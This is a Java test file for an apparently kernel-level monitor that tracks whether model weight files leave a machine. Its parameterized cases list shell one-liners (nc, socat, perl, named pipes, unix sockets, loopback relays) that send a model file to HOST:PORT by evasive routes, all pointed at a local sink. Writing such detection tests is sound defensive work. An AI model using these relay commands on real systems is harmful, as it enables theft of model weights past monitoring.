// SPDX-License-Identifier: Apache-2.0
package io.modelwarden.kernel;

import static io.modelwarden.coverage.Bytes.EXACT;
import static io.modelwarden.coverage.Hook.SOCK_RECV_LENGTH;
import static io.modelwarden.coverage.Hook.SOCK_SEND_LENGTH;
import static io.modelwarden.coverage.Hook.SYS_EXIT;
import static io.modelwarden.coverage.Kind.TRAIL;
import static org.assertj.core.api.Assertions.assertThat;

import io.modelwarden.coverage.Way;
import io.modelwarden.event.KernelEvent.Channel;
import io.modelwarden.event.KernelEvent.DataMoved;
import io.modelwarden.event.KernelEvent.Direction;
import io.modelwarden.event.KernelEvent.ProcessSeen;
import io.modelwarden.event.ProcessFacts.Origin;
import io.modelwarden.event.ProcessKey;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Who reads what the reader of a model wrote is armed before it can send the first byte of it. */
@Tag("kernel")
class RelayTest {

  private static final long MODEL_BYTES = 4_000_000;
  private static final String SCRIPTS = Acts.REPOSITORY + "/exporter/src/test/python";

  /** Of which half in a window is what the kernel waits for. */
  private static final int SERVER_SHARE = 200_000;

  @TempDir static Path folder;
  private static Observed observed;
  private static Path model;

  @BeforeAll
  static void attach() {
    observed = new Observed();
    model = folder.resolve("weights.safetensors");
    Acts.run("make_model", model, MODEL_BYTES);
  }

  @AfterAll
  static void detach() {
    observed.close();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiterString = " // ",
      quoteCharacter = '`',
      textBlock =
          """
          a pipe                       // PIPE   // cat MODEL | nc.openbsd -N HOST PORT
          one write of all to a pipe   // PIPE   // dd if=MODEL bs=4000000 status=none | nc.openbsd -N HOST PORT
          a pipe of a marked shell     // PIPE   // exec 7<MODEL; dd if=MODEL bs=4000000 status=none | nc.openbsd -N HOST PORT
          splice into a pipe           // PIPE   // /usr/lib/cargo/bin/coreutils/cat MODEL | nc.openbsd -N HOST PORT
          splice out of a pipe         // PIPE   // cat MODEL | /usr/lib/cargo/bin/coreutils/cat | nc.openbsd -N HOST PORT
          a named pipe                 // PIPE   // mkfifo FIFO; cat MODEL >FIFO & nc.openbsd -N HOST PORT <FIFO
          four pipes                   // PIPE   // cat MODEL | cat | cat | cat | nc.openbsd -N HOST PORT
          a pipe to a grandchild       // PIPE   // cat MODEL | setsid -w sh -c '(nc.openbsd -N HOST PORT; :)'
          a pipe to an exec later      // PIPE   // cat MODEL | sh -c 'dd bs=1 count=1 status=none; exec cat' | nc.openbsd -N HOST PORT
          a unix socket                // SOCKET // socat -u UNIX-LISTEN:SOCKET TCP:HOST:PORT & sleep 0.3; socat -u OPEN:MODEL UNIX-CONNECT:SOCKET; wait
          one write to a unix socket   // SOCKET // socat -u UNIX-LISTEN:SOCKET TCP:HOST:PORT & sleep 0.3; socat -b 4000000 -u OPEN:MODEL UNIX-CONNECT:SOCKET; wait
          datagrams of a unix socket // SOCKET // socat -u UNIX-RECV:SOCKET,rcvbuf=8000000 TCP:HOST:PORT & sleep 0.3; perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Type => SOCK_DGRAM, Peer => "SOCKET"); open F, "MODEL"; send $s, $_, 0 while read F, $_, 4000'; sleep 0.3; kill $!
          a pair of unix sockets       // SOCKET // perl -MSocket -e 'socketpair A, B, AF_UNIX, SOCK_STREAM, 0; if (fork) { close B; open F, "MODEL"; print A while read F, $_, 65536; close A; wait } else { close A; open STDIN, "<&B"; exec qw(nc.openbsd -N HOST PORT) }'
          TCP over loopback            // SOCKET // socat -u TCP-LISTEN:RELAY,bind=127.0.0.1 TCP:HOST:PORT & sleep 0.3; socat -u OPEN:MODEL TCP:127.0.0.1:RELAY; wait
          TCP over IPv6's loopback     // SOCKET // socat -u TCP6-LISTEN:RELAY,bind=[::1] TCP:HOST:PORT & sleep 0.3; socat -u OPEN:MODEL TCP6:[::1]:RELAY; wait
          from a listener of TCP       // SOCKET // socat -u OPEN:MODEL TCP-LISTEN:RELAY,bind=127.0.0.1 & sleep 0.3; socat -u TCP:127.0.0.1:RELAY TCP:HOST:PORT; wait
          a passed pipe // PIPE   // /usr/bin/python3 SCRIPTS/hand_over.py pipe MODEL HOST PORT
          UDP over loopback            // SOCKET // socat -u UDP-RECV:RELAY,bind=127.0.0.1,rcvbuf=16000000 TCP:HOST:PORT & sleep 0.3; socat -b 4000 -u OPEN:MODEL UDP-SENDTO:127.0.0.1:RELAY; sleep 0.3; kill $!
          """)
  @Way(
      value = "pipes, named pipes, up to eight in a row",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"pipe", "pipes"})
  @Way(
      value = "unix sockets: streams, datagrams, pairs",
      of = TRAIL,
      bytes = EXACT,
      by = {SOCK_RECV_LENGTH, SOCK_SEND_LENGTH},
      when = {"unix"})
  @Way(
      value = "TCP and UDP between two processes over loopback",
      of = TRAIL,
      bytes = EXACT,
      by = {SOCK_RECV_LENGTH, SOCK_SEND_LENGTH},
      when = {"TCP", "UDP"})
  void relayedModel_isCountedToTheByteWhereItLeaves(String way, Channel kind, String script)
      throws Exception {
    long received;
    int port;
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      port = (int) sink.number("port");
      run(script, port);
      observed.settle();
      received = Long.parseLong(sink.goOn().get("bytes"));
    }
    assertThat(received).isPositive();
    if (!way.contains("atagrams") && !way.startsWith("UDP") && !way.contains("exec later")) {
      assertThat(received).isEqualTo(MODEL_BYTES);
    }
    assertThat(observed.bytesSentTo(port)).isEqualTo(received);
    ProcessKey sender = observed.sentTo(port).get(0).process();
    assertThat(observed.of(ProcessSeen.class, seen -> seen.process().key().sameProcess(sender)))
        .isNotEmpty()
        .anyMatch(
            seen ->
                seen.process().origin()
                    == (way.contains("marked") ? Origin.EXECUTED : Origin.PASSED));
    assertThat(
            observed
                .of(
                    DataMoved.class,
                    moved ->
                        moved.process().equals(sender)
                            && moved.direction() == Direction.READ
                            && moved.kind() == kind
                            && !toItself(moved))
                .mapToLong(moved -> moved.increment().bytes())
                .sum())
        .isBetween(way.contains("passed") ? 1 : received, MODEL_BYTES);
  }

  /** Socat tells itself by a pair of sockets which signal it got. */
  private static boolean toItself(DataMoved read) {
    return observed
        .of(
            DataMoved.class,
            moved ->
                moved.process().equals(read.process())
                    && moved.channel() == read.channel()
                    && moved.direction() == Direction.WRITE
                    && moved.increment().bytes() > 0)
        .findAny()
        .isPresent();
  }

  @Test
  void processBesideThem_isNotArmed() throws Exception {
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      int port = (int) sink.number("port");
      run("cat MODEL | cat >/dev/null; head -c 1000000 /dev/zero | nc.openbsd -N HOST PORT", port);
      observed.settle();
      assertThat(observed.sentTo(port)).isEmpty();
    }
  }

  @Test
  @Way(value = "a passed descriptor of a model", of = TRAIL, bytes = EXACT, by = SYS_EXIT)
  void passedDescriptor_marksWhoReadsIt() throws Exception {
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      int port = (int) sink.number("port");
      run("/usr/bin/python3 SCRIPTS/hand_over.py model MODEL HOST PORT", port);
      observed.settle();
      assertThat(observed.bytesSentTo(port)).isEqualTo(MODEL_BYTES);
      ProcessKey child = observed.sentTo(port).get(0).process();
      assertThat(observed.accesses(child.pid()).mapToLong(read -> read.increment().bytes()).sum())
          .isEqualTo(MODEL_BYTES);
    }
  }

  @Test
  void dataAreFollowedOverSoManyChannelsAndNoMore() throws Exception {
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      int port = (int) sink.number("port");
      run("cat MODEL | cat | cat | cat | cat | cat | cat | cat | nc.openbsd -N HOST PORT", port);
      observed.settle();
      assertThat(observed.sentTo(port)).isNotEmpty();
    }
    long beyond = observed.lost("channel_hops");
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      int port = (int) sink.number("port");
      run("cat MODEL |cat|cat|cat|cat|cat|cat|cat|cat | nc.openbsd -N HOST PORT", port);
      observed.settle();
      assertThat(observed.sentTo(port)).isEmpty();
    }
    assertThat(observed.lost("channel_hops")).isGreaterThan(beyond);
  }

  @Test
  void shipperOfAServersLog_isNotArmed_untilAShareOfTheModelComesOver() throws Exception {
    printInContainer(SERVER_SHARE / 2 - 1);
    assertThat(passedInto("cat")).isEmpty();
    printInContainer(SERVER_SHARE);
    assertThat(passedInto("cat").stream().mapToLong(moved -> moved.increment().bytes()).sum())
        .isEqualTo(SERVER_SHARE);
  }

  @Test
  void whatAServerSendsOnAcceptedConnections_armsNobody() throws Exception {
    try (Cgroup cgroup = Cgroup.create()) {
      Path server = Acts.path("serve_file");
      try (Acts.Running act =
          Acts.start(
              "play_container",
              "start",
              cgroup.folder(),
              server,
              model,
              "127.0.0.1",
              0,
              MODEL_BYTES)) {
        run(
            "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"HOST:PORT\"); 1 while <$s>'",
            (int) act.number("port"));
        observed.settle();
        assertThat(act.readTruth()).containsEntry("bytes", String.valueOf(MODEL_BYTES));
      }
    }
    assertThat(passedInto("perl")).isEmpty();
  }

  /** Its memory is not with the container; a descriptor of a model may be. */
  @ParameterizedTest(name = "perl {0}")
  @CsvSource({"< <(cat MODEL), 0", "<MODEL, 50000"})
  void runtimeThatHoldsAModel_isNoReasonToCountAContainer_unlessItOpenedIt(
      String input, long counted) throws Exception {
    try (Cgroup cgroup = Cgroup.create();
        Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      int port = (int) sink.number("port");
      String start = "%s start %s".formatted(Acts.path("play_container"), cgroup.folder());
      run(
          "perl -e 'read STDIN, $_, 4e6; exec @ARGV' %s %s send HOST PORT 50000 %s"
              .formatted(start, Acts.path("lineage"), input),
          port);
      observed.settle();
      assertThat(sink.goOn()).containsEntry("bytes", "50000");
      assertThat(observed.bytesSentTo(port)).isEqualTo(counted);
    }
  }

  private static void printInContainer(int bytes) throws IOException {
    String script = "open F, '<', '%s'; read F, $_, 4e6; $| = 1; print 'x' x %d";
    assertThat(Container.print("/usr/bin/perl", "-e", script.formatted(model, bytes)))
        .isEqualTo(bytes);
    observed.settle();
  }

  /** What programs of that name have read from channels, those in the scripts above left out. */
  private static List<DataMoved> passedInto(String executable) {
    return observed
        .of(DataMoved.class, moved -> moved.direction() == Direction.READ)
        .filter(
            moved ->
                observed
                    .of(ProcessSeen.class, seen -> seen.process().key().equals(moved.process()))
                    .anyMatch(
                        seen ->
                            seen.process().executableName().equals(executable)
                                && (executable.equals("perl")
                                    || seen.process().parentPid()
                                        == ProcessHandle.current().pid())))
        .toList();
  }

  private static void run(String script, int port) throws IOException, InterruptedException {
    String relay = String.valueOf(20_000 + port % 10_000);
    Process shell =
        new ProcessBuilder(
                "bash",
                "-c",
                script
                    .replace("MODEL", model.toString())
                    .replace("SCRIPTS", SCRIPTS)
                    .replace("FIFO", folder.resolve("fifo" + port).toString())
                    .replace("SOCKET", folder.resolve("socket" + port).toString())
                    .replace("HOST", "127.0.0.1")
                    .replace("PORT", String.valueOf(port))
                    .replace("RELAY", relay)
                    .concat("; kill $(jobs -p); wait"))
            .redirectErrorStream(true)
            .start();
    assertThat(shell.waitFor(20, TimeUnit.SECONDS)).isTrue();
  }
}
